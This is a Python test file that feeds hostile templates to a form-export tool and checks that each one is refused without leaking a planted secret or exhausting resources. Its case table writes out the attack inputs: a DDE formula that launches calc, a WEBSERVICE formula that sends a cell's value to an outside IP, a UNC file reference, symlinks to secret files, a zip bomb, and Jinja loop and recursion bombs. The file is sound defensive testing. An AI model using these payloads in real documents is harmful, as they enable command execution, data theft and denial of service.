"""Issue 16's hostile templates, each installed into a temporary user templates
folder and run through the real commands (validate-template, export, check,
templates) in a child process: refused or neutralised with a Chinese message,
no secret text in any output or exported file, and per command a peak memory
under 500 MB and a wall time under 10 s (measured here, from the child's own
resource usage: os.wait4)."""

from __future__ import annotations

import io
import json
import os
import re
import shutil
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest

from tests.office_files import rezip

ROOT = Path(__file__).resolve().parents[2]
GD = ROOT / "templates" / "gd-dept-overall"
SAMPLE = ROOT / "samples" / "gd-huadu-xinfang-2021.json"
SECRET = "SECRET-7f3a-机密"
CJK = re.compile("[\u4e00-\u9fff]")
MAX_RSS_KB = 500 * 1024
MAX_SECONDS = 10.0

pytestmark = [pytest.mark.slow, pytest.mark.skipif(os.name == "nt", reason="links, /dev/zero and wait4 are POSIX")]


def _secret_workbook(path: Path) -> None:
    from openpyxl import load_workbook
    wb = load_workbook(GD / "table.xlsx")
    wb.worksheets[0]["A1"] = SECRET
    wb.save(path)


def _docx_with_text(path: Path, text: str) -> None:
    import docx
    doc = docx.Document()
    doc.add_paragraph(text)
    doc.save(path)


def _print_layout(folder: Path, body: str) -> None:
    (folder / "print.html.j2").write_text(f"<html><body>{body}<p>{{{{ unit_name }}}}</p></body></html>", encoding="utf-8")


def _xlsx_formula(folder: Path, formula: str) -> None:
    from openpyxl import load_workbook
    wb = load_workbook(folder / "table.xlsx")
    wb.worksheets[0]["Z1"] = formula
    wb.save(folder / "table.xlsx")


def _million_rows(folder: Path) -> None:
    rows = b"".join(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (i, i) for i in range(1, 1_000_001))
    head = (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
            b'spreadsheetml/2006/main"><sheetData>')
    rezip(folder / "table.xlsx", replace={"xl/worksheets/sheet1.xml": head + rows + b"</sheetData></worksheet>"})


def _link(folder: Path, name: str, target: Path | str) -> None:
    (folder / name).unlink()
    (folder / name).symlink_to(target)


# case → (how to make it hostile, the formats its export touches, what must be said)
CASES = {
    "print.html.j2 → secret file": (lambda f, s: _link(f, "print.html.j2", s), "pdf", "链接"),
    "table.xlsx → another workbook": (lambda f, s: (_secret_workbook(s.with_suffix(".xlsx")),
                                                    _link(f, "table.xlsx", s.with_suffix(".xlsx"))), "xlsx", "链接"),
    "report.docx → /dev/zero": (lambda f, s: _link(f, "report.docx", "/dev/zero"), "docx", "链接"),
    "DDE formula": (lambda f, s: _xlsx_formula(f, "=cmd|' /C calc'!A0"), "xlsx", "DDE"),
    "UNC reference": (lambda f, s: _xlsx_formula(f, "='\\\\10.0.0.66\\share\\[a.xlsx]S'!A1"), "xlsx", "其他文件"),
    "WEBSERVICE": (lambda f, s: _xlsx_formula(f, '=WEBSERVICE("http://10.0.0.66/?"&A1)'), "xlsx", "WEBSERVICE"),
    "nested loops": (lambda f, s: _print_layout(f, "{% for i in 'x'*100000 %}{% for j in 'x'*100000 %}"
                                                   "{% endfor %}{% endfor %}"), "pdf", "循环"),
    "recursive macro": (lambda f, s: _print_layout(f, "{% macro m(n) %}{{ m(n) }}{{ m(n) }}{% endmacro %}{{ m(1) }}"),
                        "pdf", "嵌套"),
    "printf width": (lambda f, s: _docx_with_text(f / "report.docx", "{{ '%0999999999d' % 1 }}"), "docx", "宽度"),
    "indent 99999": (lambda f, s: _print_layout(f, "{{ ('x\n' * 40000)|indent(99999) }}"), "pdf", "字符"),
    "docx zip bomb": (lambda f, s: rezip(f / "report.docx", bomb=("word/document.xml", 200 << 20)),
                      "docx", "压缩炸弹"),
    "xlsx of a million rows": (lambda f, s: _million_rows(f), "xlsx", "解压后"),
    "100 MB form.parsed.json": (lambda f, s: os.truncate(f / "form.parsed.json", 100 << 20), None, "form.parsed.json"),
}


# Linux carries a process's peak RSS across fork and exec, so a child forked from
# this (large) test process would report this process's peak: a small launcher
# starts the command as a grandchild and reports that one's own peak.
LAUNCHER = ("import json, os, subprocess, sys; p = subprocess.Popen(sys.argv[2:]); _, s, u = os.wait4(p.pid, 0); "
            "open(sys.argv[1], 'w').write(json.dumps([os.waitstatus_to_exitcode(s), u.ru_maxrss]))")


def _run(args: list[str], env: dict) -> tuple[int, str, float, int]:
    """(exit code, stdout+stderr, seconds, peak RSS in KB) of `python main.py ARGS`."""
    data = Path(env["JXZP_DATA_DIR"])
    data.mkdir(parents=True, exist_ok=True)
    report, out_path = data / "rusage.json", data / "out.txt"
    with open(os.devnull, "rb") as nothing, open(out_path, "wb") as out:
        start = time.monotonic()
        subprocess.run([sys.executable, "-c", LAUNCHER, str(report), sys.executable, str(ROOT / "main.py"), *args],
                       stdin=nothing, stdout=out, stderr=subprocess.STDOUT, env=env, cwd=ROOT, timeout=120)
        seconds = time.monotonic() - start
    code, rss = json.loads(report.read_text())
    return code, out_path.read_text(encoding="utf-8", errors="replace"), seconds, rss


def _all_text(folder: Path) -> bytes:
    """Every byte written to the export folder, zip members unpacked."""
    found = b""
    for path in folder.rglob("*") if folder.exists() else ():
        data = path.read_bytes()
        found += data
        if data[:2] == b"PK":
            with zipfile.ZipFile(io.BytesIO(data)) as z:
                found += b"".join(z.read(n) for n in z.namelist())
    return found


@pytest.mark.parametrize("case", list(CASES))
def test_a_hostile_template_is_refused_or_neutralised(case, tmp_path):
    make, fmt, words = CASES[case]
    secret = tmp_path / "secret.txt"
    secret.write_text(f"root:x:0:0 {SECRET}\n", encoding="utf-8")
    user = tmp_path / "用户模板"
    folder = user / "evil"
    shutil.copytree(GD, folder)
    form = folder / "form.yaml"
    form.write_text(form.read_text(encoding="utf-8").replace("id: gd-dept-overall", "id: evil-template"),
                    encoding="utf-8")
    make(folder, secret)
    draft = tmp_path / "草稿.json"
    data = json.loads(SAMPLE.read_text(encoding="utf-8"))
    data["template"]["id"] = "evil-template"
    draft.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    env = {**os.environ, "JXZP_TEMPLATES_PATH": str(user), "JXZP_DATA_DIR": str(tmp_path / "data"),
           "QT_QPA_PLATFORM": "offscreen", "PYTHONIOENCODING": "utf-8"}
    out = tmp_path / "导出"
    runs = {"validate-template": ["validate-template", str(folder)]}
    if fmt:
        runs["export"] = ["export", str(draft), "--out", str(out), "--format", fmt]
    else:
        runs["templates"] = ["templates"]
    said = ""
    for name, args in runs.items():
        code, text, seconds, rss = _run(args, env)
        assert code in (0, 1, 2), (name, code, text[-2000:])
        assert "Traceback" not in text and "程序内部错误" not in text, text[-2000:]
        assert SECRET not in text, f"{name} printed the secret"
        assert seconds < MAX_SECONDS, f"{name} took {seconds:.1f} s"
        assert rss < MAX_RSS_KB, f"{name} peaked at {rss // 1024} MB"
        print(f"{case} / {name}: exit {code}, {seconds:.1f} s, {rss // 1024} MB")
        said += text
    assert words in said, said[-2000:]
    assert CJK.search(said)
    code, _, _, _ = _run(["validate-template", str(folder)], env)
    assert code == 1 or "未能载入" in said, "validate-template must not call it 无误"
    assert SECRET.encode() not in _all_text(out)
    assert b"10.0.0.66" not in _all_text(out) and b"cmd|" not in _all_text(out)


def test_a_user_template_with_a_built_in_id_is_listed_separately(tmp_path):
    user = tmp_path / "用户模板"
    shutil.copytree(GD, user / "gd-copy")
    form = user / "gd-copy" / "form.yaml"
    form.write_text(form.read_text(encoding="utf-8").replace('version: "2021.1"', 'version: "9999.1"'),
                    encoding="utf-8")
    env = {**os.environ, "JXZP_TEMPLATES_PATH": str(user), "JXZP_DATA_DIR": str(tmp_path / "data"),
           "QT_QPA_PLATFORM": "offscreen", "PYTHONIOENCODING": "utf-8"}
    code, text, seconds, rss = _run(["templates"], env)
    assert code == 0 and seconds < MAX_SECONDS and rss < MAX_RSS_KB
    lines = text.splitlines()
    assert any(ln.startswith("gd-dept-overall\t2021.1\t") and "程序自带" in ln for ln in lines), text
    assert any(ln.startswith("gd-dept-overall (本机安装)\t9999.1\t") and "本机安装" in ln for ln in lines), text
    code, text, _, _ = _run(["check", str(SAMPLE)], env)
    assert code == 0 and "（2021.1）" in text, "the built-in template was replaced by the copy"
